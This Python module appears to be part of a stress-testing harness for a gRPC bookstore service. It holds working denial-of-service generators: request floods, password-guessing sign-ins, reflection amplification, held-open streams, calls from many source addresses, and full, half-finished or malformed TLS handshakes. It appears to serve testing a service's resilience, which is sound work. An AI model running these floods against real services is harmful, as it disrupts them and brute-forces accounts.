"""Attacks by calls and requests that are valid, but too many, and by handshakes of TLS. Each is a
generator that yields after each operation."""
import contextlib
import itertools
import os
import random
import ssl

from http2 import BATCH, BOOK_1, GET_BOOK, call, discard, headers, message, open_connection, streams, text, wait_for_end
from target import connect, other_sources, repeat, tls_context

GET_CART = "/bookstore.cart.v1.CartService/GetCart"
SIGN_IN = "/bookstore.accounts.v1.SessionService/SignIn"
WATCH_STOCK = "/bookstore.inventory.v1.InventoryService/WatchStock"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"


def _calls(target, block, body):
    """Calls in batches on one connection; `block` and `body` make the headers and the message."""
    def attempt():
        with open_connection(target.grpc, window=1 << 20) as connection:
            numbers = iter(streams())
            while several := list(itertools.islice(numbers, BATCH)):
                connection.sendall(b"".join(call(stream, block(), message(body())) for stream in several))
                # Waiting for the last keeps the number of open streams below the limit.
                wait_for_end(connection, several[-1])
                for _ in several:
                    yield
    return repeat(attempt)


def calls(target):
    """GetBook, as fast as it is answered."""
    block = headers(GET_BOOK)
    return _calls(target, lambda: block, lambda: BOOK_1)


def random_tokens(target):
    """GetCart with random session tokens, each of which has to be looked up."""
    def block():
        return headers(GET_CART, ("authorization", f"Bearer {os.urandom(24).hex()}"))
    return _calls(target, block, bytes)


def sign_ins(target):
    """Guesses of passwords for ever new email addresses, each of which costs a hash."""
    block = headers(SIGN_IN)

    def body():
        return text(1, f"user{random.random()}@example.org") + text(2, "correct horse battery")
    return _calls(target, lambda: block, body)


def reflection(target):
    """Asks for the whole contract, which is a long answer to a short request."""
    block, symbol = headers(REFLECTION), text(4, "bookstore.cart.v1.CartService")
    return _calls(target, lambda: block, lambda: symbol)


def watched_stock(target):
    """Streams of the server, which stay open."""
    block = headers(WATCH_STOCK)

    def attempt():
        opened = []
        while True:
            connection = open_connection(target.grpc)
            opened.append(connection)
            for stream in range(1, 2 * 500, 2):
                connection.sendall(call(stream, block, message(b"\x0a\x01\x01")))
                yield
                discard(connection)
    return repeat(attempt)


def many_addresses(target):
    """One call from each of ever new addresses."""
    block, sources = headers(GET_BOOK), other_sources()

    def attempt():
        for source in sources:
            with open_connection(target.grpc, source) as connection:
                connection.sendall(call(1, block, message(BOOK_1)))
                wait_for_end(connection, 1)
                yield
    return repeat(attempt)


def handshakes(target):
    """Handshakes of TLS, each of which costs a signature."""
    context = tls_context("h2")

    def attempt():
        while True:
            with connect(target.grpc) as connection:
                context.wrap_socket(connection, server_hostname="localhost").close()
                yield
    return repeat(attempt)


def half_handshakes(target):
    """Handshakes of TLS that stop after the first half."""
    context, opened = tls_context("h2"), []

    def attempt():
        for port in itertools.cycle([target.grpc, target.shop]):
            connection = connect(port)
            connection.setblocking(False)
            handshake = context.wrap_socket(
                connection, server_hostname="localhost", do_handshake_on_connect=False)
            opened.append(handshake)
            with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
                handshake.do_handshake()
            yield
    return repeat(attempt)


def broken_handshakes(target):
    """Random bytes in records of TLS."""
    def attempt():
        for port in itertools.cycle([target.grpc, target.shop]):
            with connect(port) as connection:
                for _ in range(10):
                    length = random.randrange(1, 16_000)
                    record = b"\x16\x03\x01" + length.to_bytes(2, "big") + os.urandom(length)
                    connection.sendall(record)
                    yield
    return repeat(attempt)
